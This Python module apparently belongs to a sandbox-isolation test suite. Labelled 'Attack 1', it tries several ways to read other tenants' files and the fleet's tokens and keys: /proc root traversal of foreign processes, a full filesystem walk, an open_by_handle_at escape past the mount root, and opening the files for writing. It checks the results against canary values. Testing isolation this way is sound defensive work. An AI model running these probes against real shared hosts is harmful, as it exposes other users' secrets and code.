"""Attack 1: read other tenants' code and /tmp, shard files, the fleet's token and keys."""

import ctypes
import os
import struct
import time
from typing import Any

from . import system
from .lib import Event, Tries, canaries_of, foreign_pids, opens, run

MAX_WALKED_FILES = 30_000
MAX_WALK_SECONDS = 2.0
MAX_WALKED_BYTES = 262_144


def named(event: Event, tries: Tries) -> None:
    """By the paths that they have on the host."""
    for what, path in event["paths"].items():
        tries.take(what, canaries_of, path)


def through_proc(event: Event, tries: Tries) -> None:
    """By the root and the working folder of other processes, and of this one."""
    roots = ["/proc/self/root", "/proc/self/cwd", "/proc/1/root", f"/proc/{os.getppid()}/root"]
    roots += [f"/proc/{pid}/{link}" for pid in list(foreign_pids(event))[:64] for link in ("root", "cwd")]
    for root in dict.fromkeys(roots):
        for what, path in event["paths"].items():
            for way in (root + path, root + "/../../../../../.." + path):
                tries.take(f"{what} by {root}", canaries_of, way)


def walked(event: Event, tries: Tries) -> None:
    """By looking at every small file outside the system's folders, the own ones included: they hold no secret."""
    skipped = ("/proc", "/sys", "/dev", "/usr", "/lib", "/lib64", "/bin", "/sbin", "/boot")
    deadline = time.monotonic() + MAX_WALK_SECONDS
    left = MAX_WALKED_FILES
    # A control must not look at what else is on this machine.
    further = [] if event.get("is_control") else ["/dev/shm", "/"]
    for top in [*event["folders"], *further]:
        for folder, folders, files in os.walk(top):
            folders[:] = [name for name in folders if os.path.join(folder, name) not in skipped]
            for name in files:
                left -= 1
                if left < 0 or time.monotonic() > deadline:
                    return
                _look_at(os.path.join(folder, name), tries)


def _look_at(path: str, tries: Tries) -> None:
    try:
        if not os.path.isfile(path) or os.path.getsize(path) > MAX_WALKED_BYTES:
            return
    except OSError:
        return
    tries.take(path, canaries_of, path)


def by_handle(event: Event, tries: Tries) -> None:
    """By the handle of the file system's root, past every path (open_by_handle_at)."""

    def attempt(path: str) -> object:
        mount = os.open("/", os.O_RDONLY)
        handle = ctypes.create_string_buffer(struct.pack("IiII", 8, 1, 2, 0))
        root = system.call("open_by_handle_at", mount, handle, os.O_RDONLY)
        fd = os.open(path.lstrip("/"), os.O_RDONLY, dir_fd=root)
        return canaries_of(f"/proc/self/fd/{fd}")

    for what, path in event["paths"].items():
        tries.take(what, attempt, path)


def opened_for_writing(event: Event, tries: Tries) -> None:
    """The same files, to change them; nothing is written."""
    for what, path in event["paths"].items():
        tries.take(what, opens, path, os.O_WRONLY | os.O_APPEND)


def handler(event: Event, _context: object) -> "dict[str, Any]":
    """Tries every way."""
    return run(
        {
            "named": named,
            "through proc": through_proc,
            "walked": walked,
            "by handle": by_handle,
            "opened for writing": opened_for_writing,
        },
        event,
    )
